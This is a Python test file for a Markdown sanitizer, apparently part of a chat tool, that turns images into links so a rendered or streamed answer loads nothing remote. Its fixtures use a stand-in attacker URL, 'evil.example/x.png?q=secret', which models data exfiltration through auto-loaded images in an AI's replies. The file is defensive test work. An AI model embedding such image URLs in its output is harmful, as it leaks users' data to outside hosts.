"""Markdown that loads nothing: every image becomes a link, code reads the same."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatwax.core.markdown import JOINER, no_remote_images

URL = "https://evil.example/x.png?q=secret"


def loads_an_image(text: str) -> bool:
    """Whether `text` has `![` not escaped by a backslash: the start of every Markdown
    image, whatever a renderer takes for code."""
    return any(len(m.group(1)) % 2 == 0 for m in re.finditer(r"(\\*)!\[", text))


@pytest.mark.parametrize(("text", "shown"), [
    (f"see ![chart]({URL})", f"see [image: chart]({URL})"),
    (f"![]({URL})", f"[image]({URL})"),
    ("![logo][ref]\n\n[ref]: https://evil.example/l.png", "[image: logo][ref]\n\n"
     "[ref]: https://evil.example/l.png"),
    (f"[![badge]({URL})](https://ok.example)", f"[[image: badge]({URL})](https://ok.example)"),
    (r"\![not an image](x)", r"\![not an image](x)"),  # escaped: a link already
    (r"\\![x](y)", r"\\[image: x](y)"),  # an escaped backslash, then an image
])
def test_images_become_links(text: str, shown: str) -> None:
    assert no_remote_images(text) == shown


def test_code_reads_the_same_but_holds_no_image() -> None:
    code = "```rust\nlet v = vec![1, 2];\n```\nand `vec![3]` inline, then ![x](y)"
    out = no_remote_images(code)
    assert not loads_an_image(out)
    assert out.replace(JOINER, "") == code.replace("then ![x](y)", "then [image: x](y)")
    # Backticks a renderer would not take for a code span (escaped) change nothing.
    assert not loads_an_image(no_remote_images(f"\\`![x]({URL})`"))


@given(st.text(alphabet=st.sampled_from(list("![]()`\\~\n ax:/")), max_size=60))
def test_no_text_keeps_an_image(text: str) -> None:
    """Any text, and so any prefix of a streamed answer: no image left to load."""
    assert not loads_an_image(no_remote_images(text))


@given(st.text(max_size=200).filter(lambda t: "![" not in t))
def test_text_without_images_is_unchanged(text: str) -> None:
    assert no_remote_images(text) == text
